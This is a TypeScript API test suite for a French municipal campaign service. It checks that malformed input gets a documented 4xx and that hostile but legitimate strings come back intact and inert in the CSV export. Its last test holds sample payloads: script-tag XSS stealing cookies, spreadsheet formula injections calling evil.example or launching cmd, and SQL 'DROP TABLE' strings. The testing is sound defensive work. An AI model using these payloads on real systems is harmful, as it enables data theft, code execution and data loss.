import { parse } from 'csv-parse/sync';
import { DEVELOPMENT_DEFAULTS } from '../apps/api/src/api-settings';
import corpus from './fixtures/bad-inputs.json';
import { adopted, inDays, smallCampaign, uniqueId } from './fixtures/campaigns';
import { OpenApiDocument, undeclared } from './support/openapi';
import { TestApp, eventually, startTestApp } from './support/test-app';

/**
 * Malformed and hostile input (issue 4): every case of test/fixtures/bad-inputs.json gets its
 * documented 4xx, names the field at fault, never gets a 5xx, and changes nothing. Then hostile
 * strings that are legitimate data are stored and given back intact, and inert in the CSV export.
 */

interface BadInput {
  name: string;
  method: 'GET' | 'POST' | 'PUT';
  path: string;
  base?: keyof ReturnType<typeof bases>;
  set?: Record<string, unknown>;
  unset?: string[];
  raw?: unknown;
  contentType?: string;
  as?: 'secretary';
  status: number | number[];
  field: string | null;
}

const CASES = corpus.cases as unknown as BadInput[];
const S = 'commune-1';

/** The valid bodies the cases break, one field at a time. */
function bases() {
  return {
    deliberation: adopted(),
    campaign: smallCampaign(3),
    correction: { reason: 'nombre de voix mal saisi', deliberation: adopted({ votesFor: 16 }) },
    conference: { heldOn: '2023-06-13' },
    signature: { signedOn: '2023-11-21' },
    cancel: { reason: 'convention abandonnée' },
    deadline: { deliberationDeadline: inDays(30) },
    session: { sessionDate: '2023-07-01' },
    login: { email: DEVELOPMENT_DEFAULTS.ADMIN_EMAIL, password: DEVELOPMENT_DEFAULTS.ADMIN_PASSWORD },
  };
}

interface Ctx {
  campaign: string;
  awaiting: string;
  unknown: string;
  secretaryToken: string;
}

const NESTED = /"@@NESTED:(\d+)@@"/g;

/** Generated values of the corpus: long strings, deep nesting, many signatories, placeholders. */
function materialize(value: unknown, ctx: Ctx): unknown {
  if (typeof value === 'string') {
    return value.replace(/\{(campaign|awaiting|signatory|unknown)\}/g, (_, name: string) =>
      name === 'signatory' ? S : (ctx as unknown as Record<string, string>)[name],
    );
  }
  if (Array.isArray(value)) return value.map((v) => materialize(v, ctx));
  if (value && typeof value === 'object') {
    const v = value as Record<string, unknown>;
    if ('$repeat' in v) return String(v.$repeat).repeat(Number(v.times));
    if ('$concat' in v) return (v.$concat as unknown[]).map((part) => materialize(part, ctx)).join('');
    // JSON.stringify would overflow its stack on 50,000 levels: the text is spliced in at the end.
    if ('$nested' in v) return `@@NESTED:${Number(v.$nested)}@@`;
    if ('$signatories' in v) return smallCampaign(Number(v.$signatories)).signatories;
    if ('$ids' in v) return Array.from({ length: Number(v.$ids) }, (_, i) => `body-${i}`);
    return Object.fromEntries(Object.entries(v).map(([k, inner]) => [k, materialize(inner, ctx)]));
  }
  return value;
}

function pathSegments(path: string): (string | number)[] {
  return path
    .replace(/\[(\d+)\]/g, '.$1')
    .split('.')
    .map((s) => (/^\d+$/.test(s) ? Number(s) : s));
}

function setPath(target: Record<string, unknown>, path: string, value: unknown): void {
  const segments = pathSegments(path);
  let node: Record<string | number, unknown> = target;
  for (const segment of segments.slice(0, -1)) {
    if (node[segment] === undefined || node[segment] === null || typeof node[segment] !== 'object') node[segment] = {};
    node = node[segment] as Record<string | number, unknown>;
  }
  node[segments[segments.length - 1]] = value;
}

function unsetPath(target: Record<string, unknown>, path: string): void {
  const segments = pathSegments(path);
  let node: Record<string | number, unknown> = target;
  for (const segment of segments.slice(0, -1)) node = node[segment] as Record<string | number, unknown>;
  delete node[segments[segments.length - 1]];
}

/** The request's text and content type, exactly as it goes on the wire. */
function requestBody(c: BadInput, ctx: Ctx): { text: string; contentType: string } | undefined {
  if (c.raw !== undefined) return { text: String(materialize(c.raw, ctx)), contentType: c.contentType ?? 'application/json' };
  if (!c.base) return undefined;
  const body = structuredClone(bases()[c.base]) as Record<string, unknown>;
  // A launch gets an id of its own, so that a launch wrongly accepted cannot collide with another case.
  if (c.base === 'campaign') body.id = uniqueId('ctg-bad');
  for (const [path, value] of Object.entries(c.set ?? {})) setPath(body, path, materialize(value, ctx));
  for (const path of c.unset ?? []) unsetPath(body, path);
  const text = JSON.stringify(body).replace(NESTED, (_, depth: string) => '['.repeat(Number(depth)) + ']'.repeat(Number(depth)));
  return { text, contentType: c.contentType ?? 'application/json' };
}

/** The answer's text read as JSON whatever its label (a mislabelled error is reported separately). */
function errorBody(text: string | undefined): Record<string, unknown> | undefined {
  try {
    return JSON.parse(text ?? '');
  } catch {
    return undefined;
  }
}

describe('bad inputs: the documented 4xx, the field named, never a 5xx, nothing changed', () => {
  let t: TestApp;
  let ctx: Ctx;
  let dirty = false;
  let played = 0;
  const serverErrors: string[] = [];
  const answers: { method: string; url: string; status: number }[] = [];
  const admin = () => ({ Authorization: `Bearer ${t.adminToken}` });

  async function freshContext(): Promise<Ctx> {
    const open = smallCampaign(3);
    const awaiting = smallCampaign(3);
    await t.http.post('/campaigns').set(admin()).send(open).expect(201);
    await t.http.post(`/campaigns/${open.id}/conference`).set(admin()).send({ heldOn: '2023-06-13' }).expect(200);
    await t.http.post('/campaigns').set(admin()).send(awaiting).expect(201);
    const link = await t.http.post(`/campaigns/${open.id}/signatories/${S}/link`).set(admin()).expect(201);
    return { campaign: open.id as string, awaiting: awaiting.id as string, unknown: uniqueId('no-such-campaign'), secretaryToken: link.body.token };
  }

  /** Everything a refused request must leave as it was. */
  async function snapshot(): Promise<string> {
    const [row] = await t.dataSource.query(
      `SELECT (SELECT count(*)::int FROM campaign_event) AS events,
              (SELECT count(*)::int FROM campaign_view) AS campaigns,
              (SELECT max(updated_at)::text FROM campaign_view) AS "lastUpdate",
              (SELECT count(*)::int FROM signatory_view WHERE session_date IS NOT NULL) AS sessions,
              (SELECT count(*)::int FROM signatory_link) AS links,
              (SELECT count(*)::int FROM signatory_link WHERE revoked_at IS NOT NULL) AS "revokedLinks",
              (SELECT count(*)::int FROM administrator) AS administrators`,
    );
    return JSON.stringify(row);
  }

  beforeAll(async () => {
    t = await startTestApp();
    ctx = await freshContext();
  });

  afterAll(async () => {
    console.log(
      `bad inputs: ${CASES.length} cases in the corpus, ${played} played, ${serverErrors.length} answers 5xx` +
        (serverErrors.length ? `:\n- ${serverErrors.join('\n- ')}` : ''),
    );
    await t?.close();
  });

  it('holds at least 60 cases, each with a documented status', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(60);
    expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
    for (const c of CASES) {
      for (const status of [c.status].flat()) expect([400, 401, 404, 409, 413, 415, 422]).toContain(status);
    }
  });

  it.each(CASES.map((c) => [c.name, c] as const))('%s', async (_, c) => {
    if (dirty) {
      ctx = await freshContext();
      dirty = false;
    }
    const before = await snapshot();
    const path = String(materialize(c.path, ctx));
    const token = c.as === 'secretary' ? ctx.secretaryToken : t.adminToken;
    let req = t.http[c.method.toLowerCase() as 'get' | 'post' | 'put'](path).timeout({ response: 30_000 }).set('Authorization', `Bearer ${token}`);
    const body = requestBody(c, ctx);
    if (body) req = req.set('Content-Type', body.contentType).send(body.text);
    const res = await req;
    played += 1;
    answers.push({ method: c.method, url: path, status: res.status });

    const problems: string[] = [];
    const allowed = [c.status].flat();
    if (res.status >= 500) serverErrors.push(`${c.method} ${c.path} (${c.name}): ${res.status} ${JSON.stringify(res.body).slice(0, 200)}`);
    if (!allowed.includes(res.status)) problems.push(`status: expected ${allowed.join(' or ')}, got ${res.status}`);
    if (res.status >= 400) {
      const contentType = String(res.headers['content-type'] ?? '');
      if (!/^application\/json/.test(contentType)) problems.push(`error answer labelled "${contentType}", not application/json`);
      const error = errorBody(res.text);
      if (error?.statusCode !== res.status || typeof error?.error !== 'string' || typeof error?.message !== 'string') {
        problems.push(`error body not in the shape of API.md: ${String(res.text).slice(0, 300)}`);
      }
      if (c.field) {
        const fields = Array.isArray(error?.fields) ? (error.fields as { field: string; message: string }[]) : [];
        if (!fields.some((f) => f.field === c.field && typeof f.message === 'string' && f.message.length > 0)) {
          problems.push(`fields: expected one naming "${c.field}", got ${JSON.stringify(error?.fields ?? null).slice(0, 300)}`);
        }
        if (typeof error?.message !== 'string' || !error.message.includes(c.field)) {
          problems.push(`message: expected it to name "${c.field}", got ${JSON.stringify(error?.message)?.slice(0, 300)}`);
        }
      }
    }
    // Give a wrongly accepted write the time to reach the read model before comparing.
    if (res.status < 400) await new Promise((resolve) => setTimeout(resolve, 500));
    const after = await snapshot();
    if (after !== before) problems.push(`changed: ${before} → ${after}`);
    if (problems.length || res.status < 400) dirty = true;
    expect(problems).toEqual([]);
  });

  it('declares every answer the corpus got in the OpenAPI document, for its route', async () => {
    const doc = (await t.http.get('/docs-json').expect(200)).body as OpenApiDocument;
    expect(answers.length).toBe(CASES.length);
    expect(undeclared(doc, answers)).toEqual([]);
  });

  it('was not polluted by a __proto__ key', () => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it.each([
    ['a NUL character', '2023\u0000045'],
    ['a lone high surrogate', '2023-\ud800'],
    ['a lone low surrogate', '\udfff045'],
  ])('refuses %s in a vote, and the campaign goes on recording the next votes', async (what, number) => {
    const body = smallCampaign(3);
    const id = body.id as string;
    await t.http.post('/campaigns').set(admin()).send(body).expect(201);
    await t.http.post(`/campaigns/${id}/conference`).set(admin()).send({ heldOn: '2023-06-13' }).expect(200);
    const link = (await t.http.post(`/campaigns/${id}/signatories/${S}/link`).set(admin()).expect(201)).body.token;
    const poisoned = await t.http
      .put(`/campaigns/${id}/signatories/${S}/deliberation`)
      .set('Authorization', `Bearer ${link}`)
      .send(adopted({ number }));
    const next = await t.http.put(`/campaigns/${id}/signatories/commune-2/deliberation`).set(admin()).send(adopted());
    const problems: string[] = [];
    if (poisoned.status !== 400) problems.push(`${what} in number: expected 400, got ${poisoned.status}`);
    if (!JSON.stringify(poisoned.body.fields ?? []).includes('"number"')) problems.push(`${what}: the answer does not name number`);
    if (next.status !== 200) problems.push(`the next vote: expected 200, got ${next.status}`);
    // What the administrators see: the next vote in the table, and in the legal record.
    const status = await eventually(async () => {
      const rows = (await t.http.get(`/campaigns/${id}/signatories`).set(admin()).expect(200)).body.signatories as { id: string; status: string }[];
      const row = rows.find((r) => r.id === 'commune-2');
      if (row?.status !== 'adopted') throw new Error(`commune-2 is ${row?.status}`);
      return row.status;
    }, 10_000, 250).catch((error: Error) => error.message);
    if (status !== 'adopted') problems.push(`10 s after the next vote was answered 200, the table still says ${status}`);
    const [{ n }] = await t.dataSource.query(`SELECT count(*)::int AS n FROM campaign_event WHERE campaign_id = $1 AND type = 'DeliberationRecorded'`, [id]);
    if (n !== 1) problems.push(`the legal record holds ${n} DeliberationRecorded events, expected 1 (the valid vote)`);
    expect(problems).toEqual([]);
  });

  it('accepts the boundary: 2,000 signatories', async () => {
    const body = smallCampaign(2000);
    const res = await t.http.post('/campaigns').set(admin()).send(body).expect(201);
    expect(res.body.counts.total).toBe(2000);
  });

  it('gives hostile but legitimate strings back intact in JSON, and inert in the CSV export', async () => {
    const hostile = [
      `Saint-Martin-d'Oydes "le Haut"`,
      `<script>alert(document.cookie)</script>`,
      `=HYPERLINK("https://evil.example/?x="&A1,"Cliquez ici")`,
      `'; DROP TABLE campaign_event; --`,
      `+33 5 61 00 00 00`,
      `-2+3+cmd|' /C calc'!A0`,
      `@SUM(1+1)*cmd|' /C calc'!A0`,
      `Œuvre — Ñandú 漢字 🏛️ "»«" \\ \\n`,
    ];
    const body = smallCampaign(hostile.length + 1);
    hostile.forEach((name, i) => (body.signatories[i + 1].name = name));
    body.title = `Convention "CTG" <b>Lauragais</b> =1+1 '; DROP TABLE campaign_view; --`;
    body.territory = { name: `Communauté d'agglomération <i>« L'Isle »</i>` };
    const id = body.id as string;
    const notes = `=HYPERLINK("https://evil.example","ordre du jour") <img src=x onerror=alert(1)>`;
    const number = `=1+2`;
    const reason = `@cmd '; DROP TABLE signatory_link; --`;

    await t.http.post('/campaigns').set(admin()).send(body).expect(201);
    await t.http.post(`/campaigns/${id}/conference`).set(admin()).send({ heldOn: '2023-06-13', notes }).expect(200);
    const link = (await t.http.post(`/campaigns/${id}/signatories/${S}/link`).set(admin()).expect(201)).body.token;
    await t.http.put(`/campaigns/${id}/signatories/${S}/deliberation`).set('Authorization', `Bearer ${link}`).send(adopted({ number })).expect(200);
    await t.http.post(`/campaigns/${id}/cancel`).set(admin()).send({ reason }).expect(200);

    // JSON: byte for byte what was sent, as JSON (never as HTML).
    const campaign = await t.http.get(`/campaigns/${id}`).set(admin()).expect(200);
    expect(campaign.headers['content-type']).toMatch(/^application\/json/);
    expect(campaign.headers['x-content-type-options']).toBe('nosniff');
    expect(campaign.body.title).toBe(body.title);
    const list = (await t.http.get('/campaigns').set(admin()).expect(200)).body.campaigns as { id: string; title: string }[];
    expect(list.find((c) => c.id === id)?.title).toBe(body.title);
    const rows = (await t.http.get(`/campaigns/${id}/signatories`).set(admin()).expect(200)).body.signatories as { id: string; name: string }[];
    expect(rows.map((r) => r.name)).toEqual(body.signatories.map((s) => s.name));
    const events = (await t.http.get(`/campaigns/${id}/events`).set(admin()).expect(200)).body.events as { type: string; data: Record<string, unknown> }[];
    const data = (type: string) => events.find((e) => e.type === type)?.data as Record<string, unknown>;
    expect(data('CampaignLaunched')).toMatchObject({ title: body.title, territory: body.territory });
    expect((data('CampaignLaunched').signatories as { name: string }[]).map((s) => s.name)).toEqual(body.signatories.map((s) => s.name));
    expect(data('ConferenceHeld').notes).toBe(notes);
    expect((data('DeliberationRecorded').deliberation as { number: string }).number).toBe(number);
    expect(data('CampaignCancelled').reason).toBe(reason);

    // CSV: no cell a spreadsheet would run as a formula, and the strings still all there.
    const csv = await t.http.get(`/campaigns/${id}/events.csv`).set(admin()).expect(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const table = parse(csv.text) as string[][];
    expect(table[0]).toEqual(['seq', 'type', 'occurredAt', 'actorKind', 'actorId', 'actorIp', 'data']);
    expect(table).toHaveLength(1 + events.length);
    const dangerous = table.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous).toEqual([]);
    const csvData = table.slice(1).map((r) => JSON.parse(r[6].replace(/^'/, '')) as Record<string, unknown>);
    const launched = csvData[0] as { title: string; signatories: { name: string }[] };
    expect(launched.title).toBe(body.title);
    expect(launched.signatories.map((s) => s.name)).toEqual(body.signatories.map((s) => s.name));
    expect(csvData.some((d) => d.notes === notes)).toBe(true);
    expect(csvData.some((d) => d.reason === reason)).toBe(true);

    // The injected SQL was data, never code: every table is still there.
    for (const table of ['campaign_event', 'campaign_view', 'signatory_view', 'signatory_link']) {
      await expect(t.dataSource.query(`SELECT count(*) FROM ${table}`)).resolves.toBeDefined();
    }
  });
});
